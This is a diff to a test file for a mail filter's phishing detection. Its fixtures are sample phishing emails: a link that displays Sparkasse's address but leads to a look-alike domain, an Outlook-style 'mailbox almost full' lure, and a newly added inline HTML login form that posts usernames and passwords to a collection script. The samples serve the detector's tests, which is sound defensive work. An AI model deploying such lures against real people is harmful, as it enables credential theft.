@@ -124,7 +124,7 @@ describe('spoofing of the company', () => {
     assert.ok(!unrelated.symbols.some((s) => s.startsWith('SPOOF_') || s === 'IMPERSONATE_LOCAL_NAME'), unrelated.symbols.join(','));
   });
 
-  it('tags a link that shows the bank and leads to a look-alike (PHISHING_LINK)', async () => {
+  it('tags a link that shows the bank and leads to a look-alike (PHISHING_LINK), a fake of our webmail login, a login form in the mail', async () => {
     const html = '<p>Please confirm your account at <a href="http://www.sparkasse.de.konto-check.test/login">https://www.sparkasse.de/login</a> today.</p>';
     const r = await inbound('service@konto-check.test', 'Sparkasse <service@konto-check.test>', 'account check', { html });
     assert.ok(r.symbols.includes('PHISHING_LINK'), r.symbols.join(','));
@@ -138,6 +138,11 @@ describe('spoofing of the company', () => {
       { html: '<p>Your mailbox is almost full. <a href="https://example.com.owa-login.test/owa/auth">Sign in</a> to keep receiving mail.</p>' });
     assert.ok(owa.symbols.includes('LINK_LOOKALIKE_LOCAL'), owa.symbols.join(','));
     assert.match(await relayed('mailbox quota'), /^X-Spam-Status: Yes, .*tests=.*LINK_LOOKALIKE_LOCAL/m);
+    // the login page in the mail itself (PHISHING_FORM)
+    const form = await inbound('it-desk@mailbox-verify.test', 'IT Desk <it-desk@mailbox-verify.test>', 'verify your mailbox',
+      { html: '<form method="post" action="https://mail-verify.test/collect.php"><p>Sign in to verify your mailbox:</p><input name="u"><input type="password" name="p"><input type="submit" value="Verify"></form>' });
+    assert.ok(form.symbols.includes('PHISHING_FORM'), form.symbols.join(','));
+    assert.match(await relayed('verify your mailbox'), /^X-Spam-Status: Yes, .*tests=.*PHISHING_FORM/m);
   });
 
   it("marks replies that go to a look-alike of the sender's domain when the sender is not authenticated (REPLYTO_LOOKALIKE)", async () => {
